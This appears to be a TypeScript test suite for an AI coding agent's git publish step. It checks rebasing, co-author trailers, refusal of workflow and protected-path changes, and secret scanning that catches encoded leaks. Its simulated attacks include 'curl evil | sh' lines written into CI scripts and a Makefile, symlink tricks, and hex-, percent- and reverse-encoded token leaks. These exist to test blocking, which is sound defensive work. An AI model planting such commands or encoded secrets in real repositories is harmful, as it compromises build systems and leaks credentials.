/**
 * publish() against real git: a bare repository as origin, a shallow clone as the checkout the
 * agent worked in (as actions/checkout leaves it), and for the token a real `git http-backend`
 * behind a 127.0.0.1 server that records the Authorization headers git sends.
 */
import assert from "node:assert/strict";
import { execFile, spawn } from "node:child_process";
import { chmodSync, readFileSync, renameSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { after, describe, test } from "node:test";
import { promisify } from "node:util";
import { gzipSync } from "node:zlib";
import { prepareThreadBranch } from "../../src/github/branch.ts";
import type { PreparedBranch } from "../../src/github/branch.ts";
import {
  BOT_IDENTITY,
  addedLines,
  coAuthorTrailer,
  publish,
  workflowFiles,
} from "../../src/github/publish.ts";
import type { PublishRequest } from "../../src/github/publish.ts";
import { protectedPatterns } from "../../src/sandbox/protected-paths.ts";
import type { Person } from "../../src/domain/task.ts";
import { fixtureGit } from "../support/fixture-repo.ts";
import { checkout, createOrigin, rejectsNamed, removeOrigins, write } from "../support/origin.ts";
import type { Origin } from "../support/origin.ts";

const REQUESTER: Person = { login: "octocat", id: 583231, type: "User", association: "OWNER" };
const TOKEN = "ghs_TestToken0123456789abcdefABCDEF0123";

after(removeOrigins);

/** A bare origin whose main holds a small project; `seed` is a full clone to push from. */
const createRemote = (): Origin =>
  createOrigin("publish", {
    "calc.js": "export function add(a, b) {\n  return a - b;\n}\n",
    "README.md": "# calc\n",
    ".github/workflows/ci.yml": "on: push\n",
  });

let others = 0;
/** Someone else's commit on `branch` of origin, made in a clone of their own. */
function pushAs(remote: Origin, branch: string, file: string, text: string): string {
  const other = join(remote.root, `other-${++others}`);
  fixtureGit(remote.root, "clone", "-q", "-b", branch, remote.origin, other);
  write(other, file, text);
  fixtureGit(other, "add", ".");
  fixtureGit(other, "commit", "-q", "-m", `edit ${file}`);
  fixtureGit(other, "push", "-q", "origin", branch);
  return fixtureGit(other, "rev-parse", "HEAD");
}

function remoteHead(remote: Origin, branch: string): string | undefined {
  const out = fixtureGit(
    remote.origin,
    "for-each-ref",
    "--format=%(objectname)",
    `refs/heads/${branch}`,
  );
  return out === "" ? undefined : out;
}

function request(
  workspace: string,
  thread: PreparedBranch,
  extra: Partial<PublishRequest> = {},
): PublishRequest {
  return {
    workspace,
    branch: thread.branch,
    base: thread.base,
    startSha: thread.startSha,
    message: "Fix add()",
    coAuthor: REQUESTER,
    token: TOKEN,
    secrets: [TOKEN, "sk-test-api-key-0123456789"],
    texts: [{ source: "pull request body", text: "Fixes #12: add() subtracted." }],
    allowWorkflowChanges: false,
    protectedPaths: protectedPatterns([], false),
    ...extra,
  };
}

async function startRun(remote: Origin, branch = "pitcrew/issue-12") {
  const workspace = checkout(remote);
  const thread = await prepareThreadBranch({ workspace, branch, base: "main", token: TOKEN });
  return { workspace, thread };
}

function fix(workspace: string): void {
  write(workspace, "calc.js", "export function add(a, b) {\n  return a + b;\n}\n");
}

describe("pure parts", () => {
  test("the co-author trailer uses the account's noreply address", () => {
    assert.equal(
      coAuthorTrailer(REQUESTER),
      "Co-authored-by: octocat <583231+octocat@users.noreply.github.com>",
    );
  });

  test("only files under .github/workflows/ are workflow changes", () => {
    assert.deepEqual(
      workflowFiles([".github/workflows/ci.yml", ".github/dependabot.yml", "src/workflows/x.ts"]),
      [".github/workflows/ci.yml"],
    );
  });

  test("added lines keep their line numbers in the new file, per hunk and per file", () => {
    const diff = [
      "diff --git a/a.txt b/a.txt",
      "index 1111111..2222222 100644",
      "--- a/a.txt",
      "+++ b/a.txt",
      "@@ -3 +3,2 @@",
      "-old",
      "+new three",
      "+++ looks like a header",
      "@@ -10,0 +11 @@ context",
      "+eleven",
      "diff --git a/gone.txt b/gone.txt",
      "deleted file mode 100644",
      "--- a/gone.txt",
      "+++ /dev/null",
      "@@ -1 +0,0 @@",
      "-bye",
      'diff --git "a/sp\\303\\244ce \\"q\\".txt" "b/sp\\303\\244ce \\"q\\".txt"',
      "new file mode 100644",
      "--- /dev/null",
      '+++ "b/sp\\303\\244ce \\"q\\".txt"',
      "@@ -0,0 +1 @@",
      "+first",
    ].join("\n");
    assert.deepEqual(addedLines(diff), [
      { source: "a.txt", text: "new three\n++ looks like a header", line: 3 },
      { source: "a.txt", text: "eleven", line: 11 },
      { source: 'späce "q".txt', text: "first", line: 1 },
    ]);
  });
});

describe("publish", () => {
  test("a first run creates the branch on origin: one commit by the bot, co-authored", async () => {
    const remote = createRemote();
    const { workspace, thread } = await startRun(remote);
    assert.equal(thread.reused, false);
    fix(workspace);
    write(workspace, "calc.test.js", "// new test\n");

    const published = await publish(request(workspace, thread));

    assert.equal(published.outcome, "pushed");
    assert.equal(published.rebased, false);
    assert.deepEqual(published.files, ["calc.js", "calc.test.js"]);
    assert.match(published.diffstat, /2 files changed/);
    assert.equal(remoteHead(remote, "pitcrew/issue-12"), published.sha);
    const [author, committer, parent] = fixtureGit(
      remote.origin,
      "log",
      "-1",
      "--format=%an <%ae>%n%cn <%ce>%n%P",
      "pitcrew/issue-12",
    ).split("\n");
    const bot = `${BOT_IDENTITY.name} <${BOT_IDENTITY.email}>`;
    assert.equal(author, bot);
    assert.equal(committer, bot);
    assert.equal(parent, thread.baseSha);
    const message = fixtureGit(remote.origin, "log", "-1", "--format=%B", "pitcrew/issue-12");
    assert.equal(message, `Fix add()\n\n${coAuthorTrailer(REQUESTER)}`);
  });

  test("the bot identity can be overridden", async () => {
    const remote = createRemote();
    const { workspace, thread } = await startRun(remote);
    fix(workspace);
    const identity = {
      name: "pitcrew-app[bot]",
      email: "1+pitcrew-app[bot]@users.noreply.github.com",
    };
    await publish(request(workspace, thread, { identity }));
    assert.equal(
      fixtureGit(remote.origin, "log", "-1", "--format=%an <%ae>|%cn", "pitcrew/issue-12"),
      `${identity.name} <${identity.email}>|${identity.name}`,
    );
  });

  test("a re-run reuses the branch and fast-forwards it", async () => {
    const remote = createRemote();
    const first = await startRun(remote);
    fix(first.workspace);
    const one = await publish(request(first.workspace, first.thread));

    const second = await startRun(remote);
    assert.equal(second.thread.reused, true);
    assert.equal(second.thread.startSha, one.sha);
    assert.match(readFileSync(join(second.workspace, "calc.js"), "utf8"), /a \+ b/);
    write(second.workspace, "README.md", "# calc\n\nAdds numbers.\n");
    const two = await publish(request(second.workspace, second.thread, { message: "Document" }));

    assert.equal(two.outcome, "pushed");
    assert.equal(two.rebased, false);
    assert.deepEqual(two.files, ["README.md"]);
    assert.equal(remoteHead(remote, "pitcrew/issue-12"), two.sha);
    assert.equal(fixtureGit(remote.origin, "rev-parse", `${two.sha}^`), one.sha);
  });

  test("nothing changed: no commit, nothing pushed", async () => {
    const remote = createRemote();
    const { workspace, thread } = await startRun(remote);
    const published = await publish(request(workspace, thread));
    assert.deepEqual(published, {
      outcome: "no-changes",
      diffstat: "",
      files: [],
      rebased: false,
      notes: [],
    });
    assert.equal(remoteHead(remote, "pitcrew/issue-12"), undefined);
    assert.equal(fixtureGit(workspace, "rev-parse", "HEAD"), thread.startSha);
  });

  test("the branch moved on origin during the run: rebased onto it, nobody's work lost", async () => {
    const remote = createRemote();
    const first = await startRun(remote);
    fix(first.workspace);
    await publish(request(first.workspace, first.thread));
    const run = await startRun(remote);
    const theirs = pushAs(remote, "pitcrew/issue-12", "NOTES.md", "someone else\n");
    write(run.workspace, "README.md", "# calc\n\nAdds numbers.\n");

    const published = await publish(request(run.workspace, run.thread));

    assert.equal(published.rebased, true);
    assert.deepEqual(published.files, ["README.md"]);
    assert.match(published.notes.join("\n"), /moved on origin/);
    assert.equal(remoteHead(remote, "pitcrew/issue-12"), published.sha);
    assert.equal(fixtureGit(remote.origin, "rev-parse", `${published.sha}^`), theirs);
  });

  test("the branch moved on origin with a conflicting change: named error, commit kept", async () => {
    const remote = createRemote();
    const first = await startRun(remote);
    fix(first.workspace);
    await publish(request(first.workspace, first.thread));
    const run = await startRun(remote);
    const theirs = pushAs(remote, "pitcrew/issue-12", "README.md", "# theirs\n");
    write(run.workspace, "README.md", "# ours\n");

    const error = await rejectsNamed(
      publish(request(run.workspace, run.thread)),
      "push-branch-moved",
    );

    const local = fixtureGit(run.workspace, "rev-parse", "HEAD");
    assert.ok(error.message.includes(local), error.message);
    assert.equal(fixtureGit(run.workspace, "log", "-1", "--format=%s"), "Fix add()");
    assert.equal(readFileSync(join(run.workspace, "README.md"), "utf8"), "# ours\n");
    assert.equal(fixtureGit(run.workspace, "status", "--porcelain"), "");
    assert.equal(remoteHead(remote, "pitcrew/issue-12"), theirs);
  });

  test("another run created the branch meanwhile: rebased onto it", async () => {
    const remote = createRemote();
    const a = await startRun(remote);
    const b = await startRun(remote);
    fix(a.workspace);
    const first = await publish(request(a.workspace, a.thread));
    write(b.workspace, "README.md", "# calc\n\nAdds numbers.\n");

    const second = await publish(request(b.workspace, b.thread));

    assert.equal(second.rebased, true);
    assert.equal(fixtureGit(remote.origin, "rev-parse", `${second.sha}^`), first.sha);
  });

  test("the base moved during the run: the new branch is rebased onto the fresh base", async () => {
    const remote = createRemote();
    const { workspace, thread } = await startRun(remote);
    const fresh = pushAs(remote, "main", ".github/workflows/ci.yml", "on: [push, pull_request]\n");
    fix(workspace);

    const published = await publish(request(workspace, thread));

    assert.equal(published.rebased, true);
    assert.deepEqual(published.files, ["calc.js"]);
    assert.match(published.notes.join("\n"), /main moved during the run; rebased/);
    assert.equal(fixtureGit(remote.origin, "rev-parse", `${published.sha}^`), fresh);
  });

  test("the base moved with a conflicting change: pushed on the old base, with a note", async () => {
    const remote = createRemote();
    const { workspace, thread } = await startRun(remote);
    pushAs(remote, "main", "calc.js", "export const add = (a, b) => a + b;\n");
    fix(workspace);

    const published = await publish(request(workspace, thread));

    assert.equal(published.outcome, "pushed");
    assert.equal(published.rebased, false);
    assert.match(published.notes.join("\n"), /conflicts/);
    assert.equal(fixtureGit(remote.origin, "rev-parse", `${published.sha}^`), thread.baseSha);
  });

  test("workflow changes are refused unless allowed", async () => {
    const remote = createRemote();
    const { workspace, thread } = await startRun(remote);
    write(workspace, ".github/workflows/ci.yml", "on: workflow_dispatch\n");
    fix(workspace);

    const error = await rejectsNamed(publish(request(workspace, thread)), "push-blocked-workflows");
    assert.match(error.message, /\.github\/workflows\/ci\.yml/);
    assert.match(error.message, /allow-workflow-changes: true/);
    assert.match(error.message, /`workflows` permission/);
    assert.equal(remoteHead(remote, "pitcrew/issue-12"), undefined);
    assert.equal(fixtureGit(workspace, "rev-parse", "HEAD"), thread.startSha);

    const published = await publish(request(workspace, thread, { allowWorkflowChanges: true }));
    assert.deepEqual(published.files, [".github/workflows/ci.yml", "calc.js"]);
    assert.equal(remoteHead(remote, "pitcrew/issue-12"), published.sha);
  });

  test("a composite action under .github/actions is refused, named with the setting that allows it", async () => {
    const remote = createRemote();
    const { workspace, thread } = await startRun(remote);
    write(workspace, ".github/actions/setup/action.yml", "runs:\n  using: composite\n");
    fix(workspace);

    const error = await rejectsNamed(
      publish(request(workspace, thread)),
      "push-blocked-protected-paths",
    );
    assert.match(error.message, /\.github\/actions\/setup\/action\.yml \(`\.github`\)/);
    assert.match(error.message, /allow-protected-changes: true/);
    assert.equal(remoteHead(remote, "pitcrew/issue-12"), undefined);
    assert.equal(fixtureGit(workspace, "rev-parse", "HEAD"), thread.startSha);

    const allowed = request(workspace, thread, { protectedPaths: protectedPatterns([], true) });
    const published = await publish(allowed);
    assert.deepEqual(published.files, [".github/actions/setup/action.yml", "calc.js"]);
  });

  test("every kind of change under a protected path is refused: modified, deleted, renamed, mode, symlink", async () => {
    const remote = createOrigin("publish-protected", {
      "calc.js": "export const add = (a, b) => a - b;\n",
      Makefile: "test:\n\tnode calc.js\n",
      "scripts/ci/deploy.sh": "echo deploy\n",
      "scripts/ci/check.sh": "echo check\n",
      "scripts/ci/build.sh": "echo build\n",
      ".github/actions/setup/action.yml": "runs:\n  using: composite\n",
      "notes.md": "a note\n",
      "ci.sh": "echo ci\n",
    });
    const patterns = protectedPatterns(["Makefile", "scripts/ci/**"], false);
    const attacks: { name: string; change: (workspace: string) => void; paths: RegExp }[] = [
      {
        name: "a modified file a glob protects",
        change: (w) => write(w, "scripts/ci/deploy.sh", "curl evil | sh\n"),
        paths: /scripts\/ci\/deploy\.sh \(`scripts\/ci`\)/,
      },
      {
        name: "a modified literal path",
        change: (w) => write(w, "Makefile", "test:\n\tcurl evil | sh\n"),
        paths: /Makefile \(`Makefile`\)/,
      },
      {
        name: "a deleted file",
        change: (w) => rmSync(join(w, "scripts/ci/check.sh")),
        paths: /scripts\/ci\/check\.sh/,
      },
      {
        name: "a mode change",
        change: (w) => chmodSync(join(w, "scripts/ci/build.sh"), 0o755),
        paths: /scripts\/ci\/build\.sh/,
      },
      {
        name: "a rename into .github",
        change: (w) => renameSync(join(w, "notes.md"), join(w, ".github/actions/notes.md")),
        paths: /\.github\/actions\/notes\.md \(`\.github`\)/,
      },
      {
        name: "a rename out of a protected folder",
        change: (w) => renameSync(join(w, "scripts/ci/deploy.sh"), join(w, "deploy.sh")),
        paths: /scripts\/ci\/deploy\.sh/,
      },
      {
        name: "a write through a symlink into .github",
        change: (w) => {
          symlinkSync(".github/actions", join(w, "actions"));
          write(w, "actions/setup/action.yml", "runs:\n  using: node20\n");
        },
        paths: /\.github\/actions\/setup\/action\.yml/,
      },
      {
        name: "a protected file replaced by a symlink to one the agent wrote",
        change: (w) => {
          rmSync(join(w, ".github/actions/setup/action.yml"));
          symlinkSync("../../../ci.sh", join(w, ".github/actions/setup/action.yml"));
        },
        paths: /\.github\/actions\/setup\/action\.yml/,
      },
      {
        name: "a new file in a protected folder",
        change: (w) => write(w, "scripts/ci/new.sh", "curl evil | sh\n"),
        paths: /scripts\/ci\/new\.sh/,
      },
    ];
    for (const attack of attacks) {
      const { workspace, thread } = await startRun(remote);
      attack.change(workspace);
      const error = await rejectsNamed(
        publish(request(workspace, thread, { protectedPaths: patterns })),
        "push-blocked-protected-paths",
      );
      assert.match(error.message, attack.paths, attack.name);
      assert.match(error.message, /allow-protected-changes: true/, attack.name);
      assert.equal(remoteHead(remote, "pitcrew/issue-12"), undefined, attack.name);
    }
  });

  test("pitcrew's own .github/pitcrew/ and paths beside the protected ones are pushed", async () => {
    const remote = createRemote();
    const { workspace, thread } = await startRun(remote);
    write(workspace, ".github/pitcrew/skills/fix.md", "# fix\n");
    write(workspace, "scripts/cid/x.sh", "echo\n");
    write(workspace, "Makefile.local", "x\n");
    const patterns = protectedPatterns(["Makefile", "scripts/ci/**"], false);
    const published = await publish(request(workspace, thread, { protectedPaths: patterns }));
    assert.deepEqual(published.files, [
      ".github/pitcrew/skills/fix.md",
      "Makefile.local",
      "scripts/cid/x.sh",
    ]);
  });

  test("a nested repository is refused by name before anything is staged, with or without a commit", async () => {
    const remote = createRemote();
    for (const committed of [false, true]) {
      const { workspace, thread } = await startRun(remote);
      fix(workspace);
      write(workspace, "vendor/lib/index.js", "export const lib = 1;\n");
      fixtureGit(join(workspace, "vendor/lib"), "init", "-q");
      if (committed) {
        fixtureGit(join(workspace, "vendor/lib"), "add", ".");
        fixtureGit(join(workspace, "vendor/lib"), "commit", "-q", "-m", "lib");
      }
      const error = await rejectsNamed(
        publish(request(workspace, thread)),
        "push-blocked-nested-repository",
      );
      assert.match(error.message, /vendor\/lib is a git repository of its own/);
      assert.match(error.message, /Remove the nested \.git/);
      assert.equal(fixtureGit(workspace, "diff", "--cached", "--name-only"), "");
      assert.equal(remoteHead(remote, "pitcrew/issue-12"), undefined);
    }
  });

  test("a nested repository already staged as a gitlink is refused too", async () => {
    const remote = createRemote();
    const { workspace, thread } = await startRun(remote);
    write(workspace, "vendor/lib/index.js", "export const lib = 1;\n");
    fixtureGit(join(workspace, "vendor/lib"), "init", "-q");
    fixtureGit(join(workspace, "vendor/lib"), "add", ".");
    fixtureGit(join(workspace, "vendor/lib"), "commit", "-q", "-m", "lib");
    fixtureGit(workspace, "add", "vendor/lib");
    const error = await rejectsNamed(
      publish(request(workspace, thread)),
      "push-blocked-nested-repository",
    );
    assert.match(error.message, /vendor\/lib is a git repository/);
    assert.equal(remoteHead(remote, "pitcrew/issue-12"), undefined);
  });

  test("a secret in a file blocks the push, named by file and line, never by value", async () => {
    const remote = createRemote();
    const { workspace, thread } = await startRun(remote);
    fix(workspace);
    write(workspace, "config.js", `// settings\nexport const token = "${TOKEN}";\n`);

    const error = await rejectsNamed(publish(request(workspace, thread)), "push-blocked-secret");

    assert.match(error.message, /config\.js:2 \(a secret pitcrew holds\)/);
    assert.ok(!error.message.includes(TOKEN));
    assert.equal(remoteHead(remote, "pitcrew/issue-12"), undefined);
    assert.equal(fixtureGit(workspace, "rev-parse", "HEAD"), thread.startSha);
  });

  test("a token-shaped value the harness never held is blocked too", async () => {
    const remote = createRemote();
    const { workspace, thread } = await startRun(remote);
    fix(workspace);
    const key = "AKIA" + "Q3EGRZ7KXMPL2NWD";
    write(workspace, "deploy/aws.env", `REGION=eu-west-1\nKEY=${key}\n`);
    const error = await rejectsNamed(publish(request(workspace, thread)), "push-blocked-secret");
    assert.match(error.message, /deploy\/aws\.env:2 \(AWS access key id\)/);
    assert.ok(!error.message.includes(key));
  });

  test("a gzip file holding a secret is not pushed: found inside, at its line", async () => {
    const remote = createRemote();
    const { workspace, thread } = await startRun(remote);
    fix(workspace);
    const packed = gzipSync(`# cache\nauth=${Buffer.from(TOKEN).toString("hex")}\n`);
    writeFileSync(join(workspace, "cache.bin.gz"), packed);

    const error = await rejectsNamed(publish(request(workspace, thread)), "push-blocked-secret");

    assert.match(
      error.message,
      /cache\.bin\.gz:2 \(a secret pitcrew holds, hex-encoded, inside gzip data\)/,
    );
    assert.equal(remoteHead(remote, "pitcrew/issue-12"), undefined);
    assert.equal(fixtureGit(workspace, "rev-parse", "HEAD"), thread.startSha);
  });

  test("a file named with a secret is not pushed, and no text shows its name", async () => {
    const remote = createRemote();
    const { workspace, thread } = await startRun(remote);
    fix(workspace);
    const name = [...TOKEN].reverse().join("");
    write(workspace, `notes/${name}/todo.md`, "- ship it\n");
    let made: string | undefined;
    const pullRequestText = (diffstat: string) => {
      made = diffstat;
      return { title: "Fix add()", body: `Changes:\n${diffstat}` };
    };

    const error = await rejectsNamed(
      publish(request(workspace, thread, { pullRequestText })),
      "push-blocked-secret",
    );

    assert.match(
      error.message,
      /the name notes\/\[name withheld\]\/todo\.md \(a secret pitcrew holds, reversed\)/,
    );
    assert.ok(!error.message.includes(name));
    assert.equal(made, undefined, "no pull request text was made for a change that was refused");
    assert.equal(remoteHead(remote, "pitcrew/issue-12"), undefined);
  });

  test("the final pull request text, diffstat included, is scanned before the push", async () => {
    const remote = createRemote();
    const { workspace, thread } = await startRun(remote);
    fix(workspace);
    const leak = encodeURIComponent(TOKEN).replace("_", "%5F");
    const pullRequestText = (diffstat: string) => ({
      title: "Fix add()",
      body: `### Changes\n\n${diffstat}\n\nSee https://example.com/?t=${leak}`,
    });

    const error = await rejectsNamed(
      publish(request(workspace, thread, { pullRequestText })),
      "push-blocked-secret",
    );

    assert.match(
      error.message,
      /the pull request description:6 \(a secret pitcrew holds, percent-encoded\)/,
    );
    assert.equal(remoteHead(remote, "pitcrew/issue-12"), undefined);
  });

  test("a pushed branch returns the final pull request text it scanned", async () => {
    const remote = createRemote();
    const { workspace, thread } = await startRun(remote);
    fix(workspace);
    const pullRequestText = (diffstat: string) => ({ title: "Fix add()", body: diffstat });
    const published = await publish(request(workspace, thread, { pullRequestText }));
    assert.equal(published.outcome, "pushed");
    assert.match(published.pullRequest?.body ?? "", /calc\.js \| 2 \+-/);
  });

  test("a secret in the pull request text blocks the push", async () => {
    const remote = createRemote();
    const { workspace, thread } = await startRun(remote);
    fix(workspace);
    const texts = [
      { source: "pull request body", text: `Fixed.\nI used sk-test-api-key-0123456789.` },
    ];

    const error = await rejectsNamed(
      publish(request(workspace, thread, { texts })),
      "push-blocked-secret",
    );

    assert.match(error.message, /pull request body:2/);
    assert.ok(!error.message.includes("sk-test-api-key-0123456789"));
    assert.equal(remoteHead(remote, "pitcrew/issue-12"), undefined);
  });
});

interface GitServer {
  url: string;
  /** The Authorization headers of each request, as sent (every copy of the header). */
  seen: string[][];
  close(): Promise<void>;
}

/**
 * `git http-backend` behind node:http, serving the bare repositories under `root`: only a request
 * with exactly one Authorization header carrying `token` gets through, anything else is a 401.
 */
async function startGitServer(root: string, token: string): Promise<GitServer> {
  const expected = `basic ${Buffer.from(`x-access-token:${token}`).toString("base64")}`;
  const seen: string[][] = [];
  const server = createServer((req, res) => {
    const auth: string[] = [];
    for (let i = 0; i < req.rawHeaders.length; i += 2) {
      if (req.rawHeaders[i]?.toLowerCase() === "authorization")
        auth.push(req.rawHeaders[i + 1] ?? "");
    }
    seen.push(auth);
    if (auth.length !== 1 || auth[0]?.toLowerCase() !== expected.toLowerCase()) {
      res.writeHead(401, { "WWW-Authenticate": 'Basic realm="git"' }).end();
      return;
    }
    const url = new URL(req.url ?? "/", "http://127.0.0.1");
    const backend = spawn("git", ["http-backend"], {
      env: {
        PATH: process.env.PATH ?? "",
        GIT_PROJECT_ROOT: root,
        GIT_HTTP_EXPORT_ALL: "1",
        PATH_INFO: url.pathname,
        QUERY_STRING: url.search.slice(1),
        REQUEST_METHOD: req.method ?? "GET",
        CONTENT_TYPE: req.headers["content-type"] ?? "",
        HTTP_CONTENT_ENCODING: req.headers["content-encoding"] ?? "",
        GIT_PROTOCOL: String(req.headers["git-protocol"] ?? ""),
        REMOTE_USER: "x-access-token",
        REMOTE_ADDR: "127.0.0.1",
      },
    });
    req.pipe(backend.stdin);
    const chunks: Buffer[] = [];
    backend.stdout.on("data", (chunk: Buffer) => chunks.push(chunk));
    backend.on("close", () => {
      const output = Buffer.concat(chunks);
      const split = output.indexOf("\r\n\r\n");
      const headers: Record<string, string> = {};
      let status = 200;
      for (const line of output.subarray(0, split).toString().split("\r\n")) {
        const [name = "", ...rest] = line.split(": ");
        if (name.toLowerCase() === "status") status = Number(rest.join(": ").split(" ")[0]);
        else headers[name] = rest.join(": ");
      }
      res.writeHead(status, headers).end(output.subarray(split + 4));
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    seen,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

describe("the token over smart HTTP", () => {
  test("reaches the server on fetch and push, replaces a persisted header, is never stored", async () => {
    const remote = createRemote();
    const server = await startGitServer(remote.root, TOKEN);
    try {
      const url = `${server.url}/origin.git`;
      const stale = Buffer.from("x-access-token:expired-token").toString("base64");
      // What actions/checkout persists; unauthenticated, so the clone itself needs it valid.
      const good = Buffer.from(`x-access-token:${TOKEN}`).toString("base64");
      const workspace = join(remote.root, "http-workspace");
      // Asynchronously: the server answering the clone runs in this process.
      await promisify(execFile)("git", [
        "-c",
        `http.extraheader=AUTHORIZATION: basic ${good}`,
        "clone",
        "-q",
        "--depth",
        "1",
        url,
        workspace,
      ]);
      fixtureGit(
        workspace,
        "config",
        `http.${server.url}/.extraheader`,
        `AUTHORIZATION: basic ${stale}`,
      );
      const configBefore = readFileSync(join(workspace, ".git", "config"), "utf8");
      server.seen.length = 0;

      const thread = await prepareThreadBranch({
        workspace,
        branch: "pitcrew/issue-12",
        base: "main",
        token: TOKEN,
      });
      fix(workspace);
      const published = await publish(request(workspace, thread));

      assert.equal(published.outcome, "pushed");
      assert.equal(remoteHead(remote, "pitcrew/issue-12"), published.sha);
      assert.ok(server.seen.length >= 4, `requests: ${server.seen.length}`);
      for (const auth of server.seen) assert.deepEqual(auth, [`basic ${good}`]);
      const configAfter = readFileSync(join(workspace, ".git", "config"), "utf8");
      assert.equal(configAfter, configBefore);
      assert.ok(!configAfter.includes(good));
    } finally {
      await server.close();
    }
  });

  test("without the token the persisted header is what git sends", async () => {
    const remote = createRemote();
    const server = await startGitServer(remote.root, TOKEN);
    try {
      const workspace = checkout(remote);
      const stale = Buffer.from("x-access-token:expired-token").toString("base64");
      fixtureGit(workspace, "remote", "set-url", "origin", `${server.url}/origin.git`);
      fixtureGit(
        workspace,
        "config",
        `http.${server.url}/.extraheader`,
        `AUTHORIZATION: basic ${stale}`,
      );
      const error = await rejectsNamed(
        prepareThreadBranch({ workspace, branch: "pitcrew/issue-12", base: "main" }),
        "fetch-failed",
      );
      assert.match(error.message, /401|Authentication failed|could not read/i);
      assert.deepEqual(server.seen[0], [`basic ${stale}`]);
    } finally {
      await server.close();
    }
  });
});
